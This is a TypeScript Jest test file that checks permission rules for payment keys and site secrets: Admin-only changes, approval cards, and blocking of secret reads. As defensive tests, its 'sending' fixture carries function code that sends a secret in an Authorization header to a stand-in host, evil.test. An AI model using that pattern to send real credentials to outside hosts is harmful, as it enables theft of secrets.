import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { SecretsOfRuns } from '../../../src/areas/functions/run-secrets/secrets-of-runs.api.js';
import type { TestApp } from '../../support/app.js';
import { agentWith } from '../../support/automations/agents.js';
import { EgressScene } from '../../support/egress/egress-scene.js';
import type { TestServer } from '../../support/egress/test-server.js';
import { done, keyOf, type Person, person } from '../../support/people.js';
import { sharedOutside } from '../../support/shared-outside.js';
import { SiteFunctionsScene } from '../../support/sites/site-functions.js';

const value = 'sk_live_OWNERS_OwnSecret_0123';
const liveKey = 'PAYMENT_LIVE_SECRET_KEY';
const scene = new EgressScene();
let app: TestApp;
let editor: Person;
let admin: Person;
let site: SiteFunctionsScene;
let server: TestServer;
let seen: string[] = [];
beforeAll(async () => {
  app = await sharedOutside();
  await done(app, 'workspace/updateSettings', { versions: false });
  [editor, admin] = [await person(app, 'editor'), await person(app, 'admin')];
});
afterAll(() => app?.close());
beforeEach(async () => {
  site = await SiteFunctionsScene.of(app);
  seen = [];
  server = await scene.http((request, response) => {
    seen.push(String(request.headers['authorization'] ?? ''));
    response.writeHead(200).end('ok');
  });
});
afterEach(() => scene.close());

const variable = (name: string, more: object = {}, key?: string) =>
  app.call('site/createEnvVar', { projectId: site.projectId, name, value, ...more }, key);
const kept = async (name: string, more: object = {}) => (await variable(name, more)).body.id as string;
const machines = async () => [
  await keyOf(app, { kind: 'automation' }),
  await keyOf(app, { kind: 'flow' }),
  await keyOf(app, { kind: 'agent', agentId: (await agentWith(app)).id }),
];
const brief = ({ status, body }: { readonly status: number; readonly body: { readonly code?: string } }) => [
  status,
  body.code,
];
const sending = (name: string) => `
  try {
    const headers = { Authorization: ctx.secrets.ref('${name}') };
    return (await ctx.fetch('http://evil.test:${server.port}/', { headers })).status;
  } catch (error) { return error.code }`;
const list = (functionId: string, secrets: readonly object[], key?: string) =>
  app.call('site/setFunctionSecrets', { projectId: site.projectId, functionId, secrets }, key);
const approve = ({ id, hash }: { readonly id: string; readonly hash: string }, key?: string) =>
  app.call('approvals/approvePendingChange', { id, hash }, key);

describe('the keys of the payment processor', () => {
  it('can be set, changed and deleted only by the Owner and Admins in person', async () => {
    const others = [editor.key, ...(await machines())];
    for (const key of others)
      expect(brief(await variable(liveKey, {}, key))).toEqual([403, 'payment-variable-by-admin']);
    const id = await kept(liveKey);
    for (const key of others) {
      const changed = await app.call('site/updateEnvVar', { id, value: 'sk_live_EDITORS_OWN_ACCOUNT' }, key);
      expect(brief(changed)).toEqual([403, 'payment-variable-by-admin']);
      const deleted = await app.call('site/deleteEnvVar', { id }, key);
      expect(brief(deleted)).toEqual([403, 'payment-variable-by-admin']);
    }
    await done(app, 'site/updateEnvVar', { id, value: 'sk_live_another' }, admin.key);
    await done(app, 'site/deleteEnvVar', { id }, admin.key);
  });

  it('are on no list of a function or a flow, of the site or the workspace', async () => {
    await kept(liveKey);
    await done(app, 'automations/setEnvVar', { name: liveKey, value, allowedHosts: ['evil.test'], overwrite: true });
    const secrets = [{ name: liveKey, hosts: ['evil.test'] }];
    const ofSite = await site.create('sends', sending(liveKey));
    const named = { name: `F ${crypto.randomUUID()}` };
    const { id: ofWorkspace } = await done(app, 'automations/createFunction', { ...named, code: 'return 1' });
    const { id: flow } = await done(app, 'flows/createFlow', { ...named, steps: [] });
    for (const refused of [
      await list(ofSite.id, secrets),
      await app.call('automations/setFunctionSecrets', { id: ofWorkspace, secrets }),
      await app.call('flows/setFlowSecrets', { id: flow, secrets }),
    ]) {
      expect([...brief(refused), refused.body.errors[0].path]).toEqual([400, 'invalid-input', 'secrets[0].name']);
    }
    expect(await site.result('sends')).toBe('secret-not-granted');
  });

  it('no longer resolve if a list of an earlier version names one', async () => {
    await kept(liveKey);
    const { id: workspaceId } = await done(app, 'workspace/getWorkspace');
    const listed = [{ name: liveKey, hosts: ['evil.test'], opened: true as const }];
    const secrets = app.app.get(SecretsOfRuns, { strict: false });
    for (const owner of [{}, { projectId: site.projectId }]) {
      expect((await secrets.of(workspaceId, listed, owner)).granted.size).toBe(0);
    }
  });

  it('cannot be read with ctx.env, even if one is not secret', async () => {
    await kept(liveKey, { isSecret: false });
    const code = `try { return await ctx.env.get('${liveKey}') } catch (error) { return error.code }`;
    const { id } = await site.create('reads', code);
    await site.empower(id, ['env']);
    expect(await site.result('reads')).toBe('secret-not-readable');
  });
});

describe('a secret of a site that an Editor would reveal', () => {
  it('is listed for a host beyond its own only by the card of an Admin, who is warned', async () => {
    await kept('API_KEY');
    const fn = await site.create('steals', sending('API_KEY'));
    const asked = await list(fn.id, [{ name: 'API_KEY', hosts: ['evil.test'] }], editor.key);
    const card = asked.body.pendingChange;
    expect([asked.status, card.approver]).toEqual([202, 'admin']);
    expect(card.summary).toContain('evil.test (which the secret itself does not name)');
    for (const key of [editor.key, (await person(app, 'editor')).key]) {
      expect((await approve(card, key)).status).toBe(403);
    }
    await site.invoke('steals', {}, editor.key);
    expect(seen).toEqual([]);
    expect((await approve(card, admin.key)).status).toBe(200);
    expect(await site.result('steals')).toBe(200);
    expect(seen).toEqual([value]);
  });

  it('is not opened through its own hosts', async () => {
    const id = await kept('API_KEY');
    const hosts = { allowedHosts: ['evil.test'] };
    for (const key of [editor.key, ...(await machines())]) {
      const opened = await app.call('site/updateEnvVar', { id, ...hosts }, key);
      expect(brief(opened)).toEqual([403, 'secret-hosts-by-admin']);
      const made = await variable('THEIRS', hosts, key);
      expect(brief(made)).toEqual([403, 'secret-hosts-by-admin']);
    }
    await done(app, 'site/updateEnvVar', { id, allowedHosts: ['evil.test', 'api.test'] }, admin.key);
    await done(app, 'site/updateEnvVar', { id, allowedHosts: ['api.test'], description: 'Narrower.' }, editor.key);
    await done(app, 'site/createEnvVar', { projectId: site.projectId, name: 'THEIRS', value }, editor.key);
  });

  it('is not sent if an earlier version let an Editor list it, until an Admin permits it', async () => {
    await kept('API_KEY');
    const { id: workspaceId } = await done(app, 'workspace/getWorkspace');
    const listed = [{ name: 'API_KEY', hosts: ['evil.test'] }];
    const secrets = app.app.get(SecretsOfRuns, { strict: false });
    const { granted } = await secrets.of(workspaceId, listed, { projectId: site.projectId });
    expect(granted.get('API_KEY')).toMatchObject({ allowedHosts: [] });
  });

  it('keeps waiting for an Admin if it loses its own hosts during the wait', async () => {
    const id = await kept('API_KEY', { allowedHosts: ['evil.test'] });
    const fn = await site.create('steals', sending('API_KEY'));
    const asked = await list(fn.id, [{ name: 'API_KEY', hosts: ['evil.test'] }], editor.key);
    expect(asked.body.pendingChange.approver).toBe('editor');
    await done(app, 'site/updateEnvVar', { id, allowedHosts: [] }, editor.key);
    expect(brief(await approve(asked.body.pendingChange, editor.key))).toEqual([409, 'pending-change-moved']);
    expect(seen).toEqual([]);
  });
});
